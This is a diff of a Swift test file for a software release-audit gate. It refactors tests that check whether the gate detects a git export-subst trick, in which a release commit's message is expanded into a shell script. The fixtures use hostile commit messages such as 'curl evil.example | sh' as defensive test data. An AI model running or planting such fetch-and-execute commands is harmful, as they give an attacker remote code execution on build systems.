@@ -579,18 +579,23 @@ import Testing
         expectCheck(report, "build.source", .passed, "1 build record(s)")
     }
 
-    @Test func r9SameTreeIsNotSameSourceWhenExportSubstExpandsTheCommit() throws {
+    /// Under same-tree: a tested commit whose `.gitattributes` (after `padding`) sets export-subst, and
+    /// a release re-made with the same tree and a hostile message, tested and built; returns the gate's report.
+    func exportSubstRelease(_ name: String, padding: String = "") throws -> AuditReport {
         let fixture = try HardeningFixture()
         try fixture.write("policy.yml", Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: same-tree"))
-        let tested = try fixture.git.commit("Version stamp", files: [".gitattributes": "version.sh export-subst\n",
-                                                                     "version.sh": "MSG=\"$Format:%s$\"\n"])
+        let tested = try fixture.git.commit("Version stamp", files: [".gitattributes": padding + "gen.sh export-subst\n",
+                                                                     "gen.sh": "echo \"$Format:%B$\"\n"])
         try fixture.recordTest(out: "evidence/test.json")
-        let release = try fixture.git.git("commit-tree", "\(tested)^{tree}", "-p", tested, "-m", "\"; curl evil | sh; : \"")
+        let release = try fixture.git.git("commit-tree", "\(tested)^{tree}", "-p", tested, "-m", "curl evil.example | sh")
         try fixture.git.git("checkout", "-q", release)
         try fixture.git.tag("v1.0.0", message: "1.0.0")
         try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
-        let report = try gate(fixture, "export-subst", status: 1)
-        expectCheck(report, "source.match", .failed, ".gitattributes sets export-subst")
+        return try gate(fixture, name, status: 1)
+    }
+
+    @Test func r9SameTreeIsNotSameSourceWhenExportSubstExpandsTheCommit() throws {
+        expectCheck(try exportSubstRelease("export-subst"), "source.match", .failed, ".gitattributes sets export-subst")
     }
 
     @Test func r11NoClaimIsMadeForWhatWasNotChecked() throws {
@@ -634,18 +639,8 @@ import Testing
     // MARK: The third review (a second red team, after the fixes)
 
     @Test func s1PaddingGitattributesDoesNotHideExportSubst() throws {
-        let fixture = try HardeningFixture()
-        try fixture.write("policy.yml", Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: same-tree"))
         let padding = String(repeating: "# padding padding padding padding padding padding padding\n", count: 20_000)
-        let tested = try fixture.git.commit("Version stamp", files: [".gitattributes": padding + "gen.sh export-subst\n",
-                                                                     "gen.sh": "echo \"$Format:%B$\"\n"])
-        try fixture.recordTest(out: "evidence/test.json")
-        let release = try fixture.git.git("commit-tree", "\(tested)^{tree}", "-p", tested, "-m", "curl evil.example | sh")
-        try fixture.git.git("checkout", "-q", release)
-        try fixture.git.tag("v1.0.0", message: "1.0.0")
-        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
-        let report = try gate(fixture, "padded", status: 1)
-        expectCheck(report, "source.match", .failed, "export-subst")
+        expectCheck(try exportSubstRelease("padded", padding: padding), "source.match", .failed, "export-subst")
     }
 
     @Test func s2AReplacedInnerTagOfATagChainIsCaught() throws {
